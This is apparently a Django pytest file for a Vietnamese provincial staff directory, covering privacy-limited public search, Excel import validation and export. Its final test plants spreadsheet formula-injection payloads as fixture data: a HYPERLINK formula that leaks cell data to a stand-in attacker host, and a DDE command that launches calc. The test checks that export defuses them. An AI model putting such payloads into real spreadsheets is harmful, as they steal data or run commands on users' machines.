"""The directory: public only where the province chooses, never personal
data; Excel import with every bad row listed and nothing half-saved; export."""

from __future__ import annotations

import datetime
import io

import pytest
from django.utils import timezone
from openpyxl import Workbook, load_workbook

from tinhso.core.errors import InvalidInput, PermissionDenied
from tinhso.directory import actions, spreadsheets
from tinhso.directory.models import DirectoryEntry, Mailbox
from tinhso.policies.actions import schedule

pytestmark = pytest.mark.django_db


def _xlsx(rows, header=spreadsheets.IMPORT_COLUMNS):
    wb = Workbook()
    ws = wb.active
    ws.append(header)
    for r in rows:
        ws.append(r)
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.fixture
def listed(org):
    actions.sync_entries()
    Mailbox.objects.create(address="lehoangnam@cantho.gov.vn", agency=org.sxd, user=org.specialist,
                           display_name="Lê Hoàng Nam")
    return org


def test_public_search_only_where_the_policy_opens_it_and_without_personal_data(client, listed):
    response = client.get("/danh-ba/", {"q": "hoang nam"})
    assert response.status_code == 200 and "Lê Hoàng Nam" not in response.content.decode()
    assert client.get("/api/v1/directory/search", {"q": "nam"}).json() == []
    schedule(acting_user=None, key="directory.public", value="000.00.11.H13",
             effective_from=timezone.now() - datetime.timedelta(minutes=1))
    page = client.get("/danh-ba/", {"q": "hoang nam"}).content.decode()
    assert "Lê Hoàng Nam" in page and "lehoangnam@cantho.gov.vn" in page
    assert "0909123456" not in page  # the personal phone is never shown
    rows = client.get("/api/v1/directory/search", {"q": "le hoang"}).json()
    assert rows == [{"name": "Lê Hoàng Nam", "title": "Chuyên viên", "agency": "Sở Xây dựng",
                     "email": "lehoangnam@cantho.gov.vn", "office_phone": ""}]
    assert client.get("/api/v1/directory/search", {"q": "ngo thanh"}).json() == []  # Sở Tư pháp not open


def test_staff_edits_own_card_office_phone_checked(listed):
    entry = DirectoryEntry.objects.get(user=listed.specialist)
    actions.update_entry(entry.pk, acting_user=listed.specialist, office_phone="0292 3820 555", listed=True)
    with pytest.raises(InvalidInput):
        actions.update_entry(entry.pk, acting_user=listed.specialist, office_phone="gọi tôi", listed=True)
    with pytest.raises(PermissionDenied):
        actions.update_entry(entry.pk, acting_user=listed.other_office, office_phone="1", listed=False)
    assert DirectoryEntry.objects.get(pk=entry.pk).office_phone == "0292 3820 555"


def test_import_lists_every_bad_row_and_saves_nothing(org):
    data = _xlsx([["a@cantho.gov.vn", "000.00.11.H13", "chuyenvien.sxd", "", "Hoạt động"],
                  ["khong-phai-thu", "000.00.11.H13", "", "", ""],
                  ["b@cantho.gov.vn", "999", "ai-do", "", "Đã xóa"],
                  ["a@cantho.gov.vn", "000.00.10.H13", "", "", ""]])
    with pytest.raises(InvalidInput) as bad:
        spreadsheets.import_mailboxes(data, acting_user=org.admin)
    fields = [e["field"] for e in bad.value.errors]
    assert fields == ["dòng 3", "dòng 4", "dòng 5"]
    assert "không có cơ quan mã “999”" in bad.value.errors[1]["message"]
    assert "trạng thái" in bad.value.errors[1]["message"] and "đã có" in bad.value.errors[2]["message"]
    assert Mailbox.objects.count() == 0
    with pytest.raises(InvalidInput):
        spreadsheets.import_mailboxes(b"not a workbook", acting_user=org.admin)
    with pytest.raises(InvalidInput):
        spreadsheets.import_mailboxes(_xlsx([], header=["x"]), acting_user=org.admin)
    with pytest.raises(PermissionDenied):
        spreadsheets.import_mailboxes(data, acting_user=org.leader)


def test_import_good_rows_and_export_the_directory(client, org):
    data = _xlsx([["lehoangnam@cantho.gov.vn", "000.00.11.H13", "chuyenvien.sxd", "", "Hoạt động"],
                  ["sxd@cantho.gov.vn", "000.00.11.H13", "", "Sở Xây dựng", "Tạm khóa"]])
    assert spreadsheets.import_mailboxes(data, acting_user=org.admin) == 2
    assert Mailbox.objects.get(address="sxd@cantho.gov.vn").state == "suspended"
    actions.sync_entries()
    client.force_login(org.leader)
    response = client.get("/danh-ba/noi-bo/excel/")
    ws = load_workbook(io.BytesIO(response.content)).active
    rows = [list(r) for r in ws.iter_rows(values_only=True)]
    assert rows[0][0] == "Họ và tên"
    assert ["Lê Hoàng Nam", "Chuyên viên", "Sở Xây dựng", "000.00.11.H13", "lehoangnam@cantho.gov.vn", None] in rows


def test_pages_answer_and_errors_show_no_500(client, org):
    client.force_login(org.admin)
    for url in ("/danh-ba/noi-bo/", "/danh-ba/de-nghi/", "/danh-ba/hop-thu/", "/danh-ba/chung-thu/"):
        assert client.get(url).status_code == 200, url
    response = client.post("/danh-ba/hop-thu/", {"file": io.BytesIO(b"xx")})
    assert response.status_code == 422 and "Excel" in response.content.decode()
    bad = io.BytesIO(_xlsx([["x", "y", "", "", ""]]))
    bad.name = "hop-thu.xlsx"
    response = client.post("/danh-ba/hop-thu/", {"file": bad})
    assert response.status_code == 422 and "dòng 2" in response.content.decode()
    client.force_login(org.specialist)
    response = client.post("/danh-ba/de-nghi/", {"kind": "mailbox", "wanted_address": "sai"})
    assert response.status_code == 200 and "không phải là địa chỉ thư" in response.content.decode()
    assert client.get("/danh-ba/hop-thu/").status_code == 403
    actions.sync_entries()
    entry = DirectoryEntry.objects.get(user=org.specialist)
    assert client.post(f"/danh-ba/noi-bo/{entry.pk}/", {"office_phone": "0292 3820 555", "listed": "1"}).status_code == 302
    assert DirectoryEntry.objects.get(pk=entry.pk).office_phone == "0292 3820 555"
    other = DirectoryEntry.objects.get(user=org.other_leader)
    client.post(f"/danh-ba/noi-bo/{other.pk}/", {"office_phone": "1", "listed": ""})
    assert DirectoryEntry.objects.get(pk=other.pk).listed


def test_a_name_that_looks_like_a_formula_is_exported_as_text(listed):
    """Formula injection: a name or title starting with = (or + - @) would be
    stored as a formula by the spreadsheet writer and run when opened."""
    listed.specialist.full_name = '=HYPERLINK("http://ke-gian.example/?"&A1,"Bấm vào đây")'
    listed.specialist.job_title = "+1+cmd|' /C calc'!A0"
    listed.specialist.save()
    ws = load_workbook(io.BytesIO(spreadsheets.export_directory())).active
    (row,) = [r for r in ws.iter_rows(min_row=2) if "HYPERLINK" in str(r[0].value)]
    name, title = row[0], row[1]
    assert name.data_type == "s" and title.data_type == "s"  # text, not a formula
    assert name.value == listed.specialist.full_name and title.value == "+1+cmd|' /C calc'!A0"  # exactly as typed
    assert row[2].value == "Sở Xây dựng"  # ordinary text is written as is
